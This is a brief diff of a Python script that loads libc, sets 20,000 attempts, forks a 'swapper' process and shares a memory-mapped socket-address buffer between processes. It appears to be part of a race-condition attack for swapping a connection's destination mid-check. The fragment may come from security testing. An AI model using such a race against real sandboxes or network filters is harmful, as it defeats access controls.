@@ -14,7 +14,9 @@ LIBC = ctypes.CDLL(None, use_errno=True)
 ATTEMPTS = 20_000
 
 host, port = sys.argv[1], int(sys.argv[2])
-page = mmap.mmap(-1, mmap.PAGESIZE)
+with open("page", "w+b") as file:  # noqa: PTH123 - one that both share: what no file holds may not be shared
+    file.truncate(mmap.PAGESIZE)
+    page = mmap.mmap(file.fileno(), mmap.PAGESIZE)
 page[:16] = struct.pack("=H", 0) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
 address = ctypes.addressof(ctypes.c_char.from_buffer(page))
 swapper = os.fork()
